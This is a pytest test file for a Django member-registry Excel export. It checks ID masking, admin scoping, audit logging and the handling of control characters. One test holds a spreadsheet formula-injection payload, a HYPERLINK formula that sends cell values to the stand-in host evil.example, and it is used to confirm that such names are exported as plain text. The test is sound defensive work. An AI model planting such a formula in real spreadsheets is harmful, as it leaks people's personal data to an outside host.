import io
from datetime import date

import pytest
from openpyxl import load_workbook

from dangjian.audit.models import AuditEntry
from dangjian.core.errors import DomainError
from dangjian.registry import services
from dangjian.registry.exports import export_members
from dangjian.registry.imports import MEMBER_COLUMNS
from dangjian.registry.models import Member

pytestmark = pytest.mark.django_db


def rows_of(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content), read_only=True).worksheets[0].values)


def test_the_export_has_the_subtree_members_only_with_masked_id_numbers(world):
    content, filename, content_type = export_members(actor=world.a.admin, org=world.a.org)
    assert filename.endswith(".xlsx") and "spreadsheetml" in content_type
    header, *rows = rows_of(content)
    assert header[1] == "身份证号（脱敏）"
    assert [h for i, h in enumerate(header) if i != 1] == [
        title for field, title in MEMBER_COLUMNS if field != "id_number"
    ]
    names = {r[0] for r in rows}
    # County a: its member, its flowing member, and the branch admin (a member of the branch).
    assert names == {"汉台区党员", "汉台区流动党员", "汉台区支部书记"}
    by_name = {r[0]: r for r in rows}
    member = world.a.member
    exported = by_name["汉台区党员"]
    assert exported[1] == member.id_number_masked and "*" in exported[1]
    assert member.reveal_id_number() not in {str(v) for r in rows for v in r}
    assert exported[4] == member.user.phone
    assert exported[5] == "B-A1"
    assert exported[8] == "正式党员"
    assert by_name["汉台区流动党员"][9:] == ("是", "广东省深圳市")
    assert exported[6].date() == member.join_date


def test_members_who_left_are_not_exported_and_the_export_is_audited(world):
    services.mark_member_left(actor=world.a.admin, member=world.a.member, left_at=date(2025, 1, 1))
    content, _filename, _type = export_members(actor=world.a.admin, org=world.a.branch)
    assert "汉台区党员" not in {r[0] for r in rows_of(content)[1:]}
    entry = AuditEntry.objects.get(action="member.export")
    assert entry.actor == world.a.admin and entry.org == world.a.branch
    assert entry.after["count"] == 2


def test_only_admins_over_the_organization_may_export(world):
    with pytest.raises(DomainError) as info:
        export_members(actor=world.a.member.user, org=world.a.branch)
    assert info.value.code == "forbidden"
    with pytest.raises(DomainError) as info:
        export_members(actor=world.a.admin, org=world.b.org)
    assert info.value.code == "not_found"


HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2&E2,"详情")'


def exported_sheet(api, user, org):
    response = api(user).get(f"/orgs/{org.pk}/members/export.xlsx")
    assert response.status_code == 200, response.content
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


def test_names_that_look_like_formulas_are_exported_as_text_over_http(world, api):
    Member.objects.filter(pk=world.a.member.pk).update(name="=1+1")
    Member.objects.filter(pk=world.a.flowing.pk).update(name=HYPERLINK, flowing_location="@SUM(A1)")

    sheet = exported_sheet(api, world.city_admin, world.city)

    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name in ("=1+1", HYPERLINK):
        assert cells[name][0].data_type == "s"
    assert (cells[HYPERLINK][10].value, cells[HYPERLINK][10].data_type) == ("@SUM(A1)", "s")
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_control_characters_stored_before_they_were_refused_do_not_break_the_export(world, api):
    Member.objects.filter(pk=world.a.flowing.pk).update(flowing_location="广东省\x0b深圳市")
    Member.objects.filter(pk=world.b.member.pk).update(name="南郑区党员\x1b")

    sheet = exported_sheet(api, world.city_admin, world.city)

    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["汉台区流动党员"][10] == "广东省深圳市"
    assert "南郑区党员" in rows
